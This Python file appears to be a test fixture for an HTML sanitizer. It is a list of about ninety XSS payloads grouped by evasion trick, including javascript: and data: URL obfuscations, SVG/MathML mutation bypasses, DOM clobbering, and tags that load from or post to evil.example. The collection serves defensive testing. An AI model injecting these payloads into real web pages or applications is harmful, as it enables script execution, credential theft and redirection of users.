"""Hostile HTML, by trick."""

ATTACKS = [
    # plain
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<img src='x'onerror=alert(1)//", "<body onload=alert(1)>", "<p onclick=alert(1)>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data='x'></object>",
    "<embed src='javascript:alert(1)'>", "<embed embedtype='media' url='javascript:alert(1)'>", "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='//evil.example'><input name=pin><button formaction='javascript:alert(1)'>x</button></form>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>", "<select autofocus onfocus=alert(1)><option>x</select>", "<keygen autofocus onfocus=alert(1)>",
    # addresses
    "<a href='javascript:alert(1)'>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='javascript:123'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>", "<a href='java\u200bscript:alert(1)'>x</a>", "<a href='\ufeffjavascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='https:evil.example'>x</a>", "<a href='blob:https://x/1'>x</a>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='//evil.example/spy.gif'>", "<img srcset='x 1x' src='javascript:alert(1)'>", "<a href=\"javascript:alert('&#8203;')\">x</a>",
    # foreign content and mutation
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<noembed><img src=x onerror=alert(1)></noembed>", "<plaintext><img src=x onerror=alert(1)>",
    "<style><!--</style><img src=x onerror=alert(1)>-->", "<!--><img src=x onerror=alert(1)>-->", "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<!doctype html><p>x",
    "<table><td><a href='javascript:alert(1)'>x", "<b><p></b><img src=x onerror=alert(1)>", "<a><b></a><a href='javascript:alert(1)'>",
    # clobbering, style, hidden
    "<p id=document name=body>x</p>", "<a id=config href='clobber:x'>x</a>", "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>", "<span class='admin-bar'>x</span>", "<p\u0338onclick=alert(1)>x</p>", "<b\u0338>x</b>",
    "<img/src=x/onerror=alert(1)>", "<img\x0csrc=x\x0conerror=alert(1)>", "<\x00script>alert(1)</script>", "<img alt='`><img src=x onerror=alert(1)>`'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">', "<<script>alert(1)//<</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "<a title='x\" onmouseover=\"alert(1)'>x</a>", "<td title='</td><script>alert(1)</script>'>x",
    "\u202e<a href='https://evil.example'>x</a>", "<p lang='\"><script>alert(1)</script>'>x</p>", "<bdo dir=rtl onclick=alert(1)>x</bdo>",
]  # fmt: skip
